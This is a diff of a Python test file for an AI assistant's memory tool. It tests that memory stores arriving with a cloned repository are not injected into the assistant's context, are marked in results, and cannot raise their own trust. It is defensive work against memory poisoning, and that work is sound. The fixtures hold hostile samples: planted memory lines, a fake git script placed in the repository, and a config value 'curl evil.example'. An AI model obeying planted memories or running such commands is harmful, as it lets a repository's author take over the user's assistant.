@@ -1,4 +1,4 @@
-"""A store that came with a clone speaks to nobody unasked, is marked where it is asked, and lifts itself nowhere."""
+"""Stores that came with a clone: not injected, marked in results, and unable to raise their own trust or rank."""
 
 import json
 import os
@@ -24,7 +24,7 @@ def line(number: int, text: str, tokens: str, **comment: object) -> str:
 
 @pytest.fixture
 def clone(tmp_path: Path) -> Path:
-    """A clone whose store claims all that a line can claim."""
+    """Return a clone whose store claims trust and importance in every possible way."""
     origin = tmp_path / "origin"
     (origin / ".memory").mkdir(parents=True)
     store = origin / ".memory"
@@ -70,27 +70,27 @@ def is_own(clone: Path, **env: str) -> bool:
 
 
 def trust(clone: Path) -> str:
-    """Run `init --trust` as a person does, who types the store's name."""
+    """Run `init --trust` as a person who types the store's name."""
     name = clone.resolve().name
     status, shown = terminal.run(["init", "--trust"], clone, f"{name}\n", program.environment(clone))
     assert status == 0, shown
     return shown
 
 
-def test_hooks_give_one_line_that_is_not_the_stores(clone: Path) -> None:
+def test_hooks_show_only_a_notice_about_a_cloned_store(clone: Path) -> None:
     asking = "what tea does the user drink, and what is planted?"
     for action, prompt, session in (("start", "", "s"), ("prompt", asking, "another")):
         said = context_in(clone, action, prompt, session)
         assert "promptx-mem init --trust" in said
         assert "\n" not in said
         assert said.lower() == NOTICE.lower()
-        assert context_in(clone, "prompt", asking, session) == "", "it comes once a session"
+        assert context_in(clone, "prompt", asking, session) == "", "it is shown once per session"
     request = context_in(clone, "prompt", "remember that I drink tea")
     assert "promptx-mem remember" in request
     assert HOSTILE not in request
 
 
-def test_what_is_asked_for_is_marked_in_every_form(clone: Path) -> None:
+def test_recalled_memories_of_a_clone_are_marked_in_every_format(clone: Path) -> None:
     said = run(clone, "recall", "tea")
     assert said.out.count("origin: clone") == 2
     assert "promptx-mem init --trust" in said.err
@@ -103,7 +103,7 @@ def test_what_is_asked_for_is_marked_in_every_form(clone: Path) -> None:
     assert run(clone, "index", "--check").status == 0
 
 
-def test_the_server_gives_it_marked(clone: Path) -> None:
+def test_mcp_server_marks_memories_of_a_clone(clone: Path) -> None:
     tools = Tools(str(clone / ".memory"))
     result, _ = tools.call("recall", {"query": "tea"})
     assert [memory["origin"] for memory in result["memories"]] == ["clone", "clone"]
@@ -111,7 +111,7 @@ def test_the_server_gives_it_marked(clone: Path) -> None:
     assert tools.call("get", {"id": "m_0000000001"})[0]["memory"]["origin"] == "clone"
 
 
-def test_what_a_line_claims_lifts_it_no_further_than_a_fact_of_today(clone: Path) -> None:
+def test_claims_of_a_cloned_line_do_not_raise_its_rank(clone: Path) -> None:
     declarative = clone / ".memory" / "declarative.md"
     declarative.write_text(
         line(1, HOSTILE, "#tea score:10 duration:永久", at="2020-01-01T00:00:00+00:00", category="core")
@@ -127,7 +127,7 @@ def test_what_a_line_claims_lifts_it_no_further_than_a_fact_of_today(clone: Path
 
 
 @pytest.mark.parametrize("way", ["no git", "broken git", "slow git", "damaged repository", "another's worktree"])
-def test_where_git_cannot_be_asked_it_is_foreign(way: str, clone: Path, tmp_path: Path) -> None:
+def test_store_is_not_trusted_if_git_does_not_work(way: str, clone: Path, tmp_path: Path) -> None:
     programs = tmp_path / "programs"
     programs.mkdir()
     env = {"PATH": str(programs)}
@@ -147,7 +147,7 @@ def test_where_git_cannot_be_asked_it_is_foreign(way: str, clone: Path, tmp_path
     assert context_in(clone, "prompt", "tea?", env=env).lower() == NOTICE.lower()
 
 
-def test_a_git_in_the_repository_is_never_run(clone: Path) -> None:
+def test_git_program_in_the_repository_is_never_run(clone: Path) -> None:
     for name in ("git", "ls-files"):
         (clone / name).write_text(f"#!/bin/sh\ntouch {clone}/ran\nexit 1\n")
         (clone / name).chmod(0o755)
@@ -156,7 +156,7 @@ def test_a_git_in_the_repository_is_never_run(clone: Path) -> None:
     assert not (clone / "ran").exists()
 
 
-def test_an_inner_repository_hides_nothing(clone: Path) -> None:
+def test_store_tracked_by_an_outer_repository_is_not_trusted(clone: Path) -> None:
     (clone / "inner").mkdir()
     shutil.move(clone / ".memory", clone / "inner" / ".memory")
     git(clone, "add", "-f", "inner/.memory")
@@ -164,7 +164,7 @@ def test_an_inner_repository_hides_nothing(clone: Path) -> None:
     assert not is_own(clone / "inner")
 
 
-def test_trust_is_given_at_a_terminal_alone(clone: Path) -> None:
+def test_store_can_be_trusted_only_at_a_terminal(clone: Path) -> None:
     refused = run(clone, "init", "--trust", "--json")
     assert refused.status == 1
     assert refused.object["error"]["code"] == "needs_person"
@@ -175,10 +175,10 @@ def test_trust_is_given_at_a_terminal_alone(clone: Path) -> None:
     assert HOSTILE in context_in(clone, "prompt", "what does the user say about evil.example?")
     started = context_in(clone, "start")
     assert HOSTILE in started
-    assert PLANTED not in started  # the index was made anew
+    assert PLANTED not in started  # the index was rebuilt
 
 
-def test_trust_holds_for_this_directory_alone(clone: Path) -> None:
+def test_trust_applies_only_to_this_directory(clone: Path) -> None:
     trust(clone)
     shutil.rmtree(clone / ".memory")
     git(clone, "checkout", "-q", ".")
@@ -190,7 +190,7 @@ def test_trust_holds_for_this_directory_alone(clone: Path) -> None:
     assert not is_own(clone)
 
 
-def test_ones_own_store_stays_so_when_it_is_shared(tmp_path: Path) -> None:
+def test_own_store_stays_trusted_when_it_is_shared(tmp_path: Path) -> None:
     work = tmp_path / "work"
     work.mkdir()
     git(work, "init", "-q")
@@ -202,7 +202,7 @@ def test_ones_own_store_stays_so_when_it_is_shared(tmp_path: Path) -> None:
     assert is_own(work, PATH="/nowhere")  # git is not asked
 
 
-def test_without_a_state_folder_git_decides(tmp_path: Path) -> None:
+def test_git_decides_about_trust_without_a_state_folder(tmp_path: Path) -> None:
     work = tmp_path / "work"
     work.mkdir()
     git(work, "init", "-q")
@@ -213,7 +213,7 @@ def test_without_a_state_folder_git_decides(tmp_path: Path) -> None:
     assert not is_own(work)
 
 
-def test_a_key_that_has_moved_is_not_repeated_from_a_clone(clone: Path) -> None:
+def test_warning_about_an_ignored_setting_does_not_print_its_value(clone: Path) -> None:
     (clone / ".memory" / "config.yaml").write_text("llm: {command: curl evil.example}\n", "utf-8")
     said = run(clone, "recall", "--json").object["warnings"]
     assert any("llm is ignored" in warning for warning in said)
